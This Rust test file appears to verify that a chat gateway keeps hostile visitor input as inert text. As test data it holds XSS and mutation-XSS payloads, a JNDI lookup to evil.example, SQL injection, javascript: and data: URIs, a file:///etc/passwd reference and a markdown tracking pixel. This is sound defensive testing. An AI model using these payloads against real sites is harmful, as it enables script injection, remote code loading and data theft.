//! Rows 34 to 40: what people write, and what they call themselves.

use crate::Case;
use gateway_tests::Client;
use protocol::{Action, Code, ConversationId, Open};
use serde_json::Value;
use std::time::{Duration, Instant};

/// The nodes of every message of a conversation, as the agent is given them.
async fn nodes(case: &Case, id: ConversationId) -> Vec<Vec<Value>> {
    let path = format!("/api/v1/sites/shop/conversations/{id}/records?limit=100");
    let page = case.shared.agent.get(&path).await.json();
    let said = page["records"].as_array().unwrap().iter().map(|record| &record["what"]["said"]["body"]);
    said.filter_map(|body| body.as_array().cloned()).collect()
}

fn links(nodes: &[Value]) -> Vec<&str> {
    nodes.iter().filter_map(|node| node["link"].as_str()).collect()
}

fn shown(nodes: &[Value]) -> String {
    let text = |node: &Value| match node.as_object().unwrap().iter().next().unwrap() {
        (kind, Value::String(text)) if kind == "text" || kind == "link" => text.clone(),
        (kind, _) if kind == "break" => "\n".to_owned(),
        (kind, _) => panic!("a node of kind {kind}"),
    };
    nodes.iter().map(text).collect()
}

/// A visitor says these things, and each is stored and shown as it was written, as text and links of four schemes.
async fn are_kept(case: &Case, bodies: &[&str]) -> Vec<Vec<Value>> {
    let mut visitor = Client::visitor(&case.shared.shop).await;
    let id = visitor.open(bodies[0]).await;
    for body in &bodies[1..] {
        visitor.say(id, body).await.unwrap_or_else(|refusal| panic!("{refusal:?}: {body:?}"));
    }
    assert_eq!(visitor.read_all(id).await.said(), bodies);
    let nodes = nodes(case, id).await;
    assert_eq!(nodes.iter().map(|nodes| shown(nodes)).collect::<Vec<_>>(), bodies);
    let schemes = ["https://", "http://", "mailto:", "tel:"];
    for link in nodes.iter().flat_map(|nodes| links(nodes)) {
        let link = link.to_ascii_lowercase();
        assert!(schemes.iter().any(|scheme| link.starts_with(scheme)), "a link to {link}");
    }
    nodes
}

#[tokio::test]
async fn bad_input_34_a_body_that_says_nothing_or_too_much_is_refused_and_leaves_its_ordinal_free() {
    let case = Case::begin().await;
    let mut visitor = Client::visitor(&case.shared.shop).await;
    let id = visitor.open("first").await;
    let long = "x".repeat(8 * 1024 + 1);
    for body in ["", "   ", "\n\t\r\n", "\u{200b}\u{200d}\u{2060}", "\u{feff}", "\u{3164}", &long, &"ä".repeat(4_097)]
    {
        let refusal = visitor.say(id, body).await.unwrap_err();
        assert_eq!((refusal.code, refusal.retryable), (Code::BadText, false), "{body:?}");
    }
    let longest = "x".repeat(8 * 1024);
    visitor.say(id, &longest).await.unwrap();
    assert_eq!(visitor.read_all(id).await.said(), ["first", &longest]);
    case.end().await;
}

#[tokio::test]
async fn bad_input_35_letters_that_pile_up_or_turn_round_are_kept() {
    let case = Case::begin().await;
    let zalgo = format!("a{}", "\u{0301}".repeat(4_095));
    let family = "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}".repeat(450);
    are_kept(&case, &[&zalgo, "abc \u{202e}gpj.exe \u{202c} \u{2066}x\u{2069}", &family]).await;
    case.end().await;
}

#[tokio::test]
async fn bad_input_36_a_name_of_markup_is_a_name() {
    let case = Case::begin().await;
    for name in
        ["<img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "Robert'); DROP TABLE x;--"]
    {
        let mut visitor = Client::visitor(&case.shared.shop).await;
        let id = gateway_tests::conversation_id();
        let open = Open { name: Some(name.to_owned()), body: Some("x".to_owned()), ..Open::default() };
        visitor.command(Some(id), Action::Open(Box::new(open))).await.unwrap();
        let answer = case.shared.agent.get(&format!("/api/v1/sites/shop/conversations/{id}")).await;
        assert_eq!(answer.json()["visitor"]["name"], name);
        assert_eq!(answer.header("content-type"), Some("application/json"));
        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
    }
    case.end().await;
}

#[tokio::test]
async fn bad_input_37_an_address_that_runs_something_stays_text() {
    let case = Case::begin().await;
    let bodies = [
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "JaVaScRiPt&#58;alert(1)",
        "java\tscript:alert(1) jav\nascript:alert(1)",
        "file:///etc/passwd blob:https://x.example/1 //evil.example",
    ];
    let nodes = are_kept(&case, &bodies).await;
    assert!(nodes.iter().all(|nodes| links(nodes).is_empty()), "{nodes:?}");
    let sound = are_kept(&case, &["https://a.example http://b.example mailto:c@d.example tel:+49301234"]).await;
    assert_eq!(links(&sound[0]).len(), 4);
    case.end().await;
}

#[tokio::test]
async fn bad_input_38_markdown_shows_no_picture_and_hides_no_address() {
    let case = Case::begin().await;
    let bodies = [
        "![x](https://evil.example/pixel.png)",
        "[https://bank.example](https://evil.example)",
        "<https://evil.example|https://bank.example>",
        "[a]: javascript:alert(1)",
    ];
    are_kept(&case, &bodies).await;
    case.end().await;
}

#[tokio::test]
async fn bad_input_39_brackets_and_stars_without_end_take_no_time() {
    let case = Case::begin().await;
    let begun = Instant::now();
    let long = |piece: &str| piece.repeat(8 * 1024 / piece.len());
    let bodies = [long("["), long("*a"), long("(("), long("https://"), long("<\"'"), long("a@")];
    are_kept(&case, &bodies.each_ref().map(String::as_str)).await;
    assert!(begun.elapsed() < Duration::from_secs(10), "{:?}", begun.elapsed());

    let mut raw = case.raw().await;
    raw.text(&format!("{{\"wave\":\"{}\"}}", "[".repeat(100 * 1024))).await;
    assert_eq!(raw.closed().await, Some(1009));
    case.end().await;
}

#[tokio::test]
async fn bad_input_40_html_is_text() {
    let case = Case::begin().await;
    let bodies = [
        "<script>alert(1)</script>",
        "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "&lt;b&gt; &#x3c;script&#x3e;",
        "</textarea><iframe srcdoc='<script>1</script>'>",
    ];
    are_kept(&case, &bodies).await;
    case.end().await;
}
